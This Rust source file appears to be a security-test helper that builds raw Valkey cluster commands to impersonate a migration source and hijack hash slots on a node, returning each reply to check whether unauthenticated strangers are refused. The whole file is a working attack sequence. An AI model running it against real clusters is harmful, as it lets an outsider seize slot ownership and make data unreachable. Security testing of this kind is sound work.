//! What a stranger with network access and no credentials tries on a node, written as it would
//! be: raw protocol over a plain TCP socket, no client library in the way.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Valkey 9.0's slot-migration protocol spoken as the source would, to `target`: asks it to
/// import `first..=last` from the primary `source_id`, then walks it through the steps
/// (`ACK`, `SNAPSHOT-EOF`, `PAUSED`, `FAILOVER-GRANTED`) as if the source had sent its data
/// and paused. A target that takes it becomes the slots' owner with none of their keys.
/// Returns each step's reply as text (`-NOAUTH …` where the node admits no stranger).
pub async fn hijack_slots(target: &str, source_id: &str, first: u16, last: u16) -> Vec<String> {
    let Ok(mut stream) = TcpStream::connect(target).await else {
        return vec![format!("cannot connect to {target}")];
    };
    let job = "ab".repeat(20);
    let (first, last) = (first.to_string(), last.to_string());
    let establish = [
        "CLUSTER",
        "SYNCSLOTS",
        "ESTABLISH",
        "SOURCE",
        source_id,
        "NAME",
        &job,
        "SLOTSRANGE",
        &first,
        &last,
    ];
    let mut replies = vec![exchange(&mut stream, &establish).await];
    for step in ["ACK", "SNAPSHOT-EOF", "PAUSED", "FAILOVER-GRANTED"] {
        replies.push(exchange(&mut stream, &["CLUSTER", "SYNCSLOTS", step]).await);
    }
    replies
}

/// Sends one command and reads whatever comes back within a moment (the protocol's steps
/// answer with the next step, or nothing).
async fn exchange(stream: &mut TcpStream, command: &[&str]) -> String {
    let mut frame = format!("*{}\r\n", command.len());
    for arg in command {
        frame.push_str(&format!("${}\r\n{arg}\r\n", arg.len()));
    }
    if stream.write_all(frame.as_bytes()).await.is_err() {
        return "(connection closed)".into();
    }
    let mut reply = vec![0u8; 4096];
    match tokio::time::timeout(Duration::from_millis(300), stream.read(&mut reply)).await {
        Ok(Ok(n)) => String::from_utf8_lossy(&reply[..n]).into_owned(),
        Ok(Err(error)) => format!("(read failed: {error})"),
        Err(_) => "(no reply)".into(),
    }
}
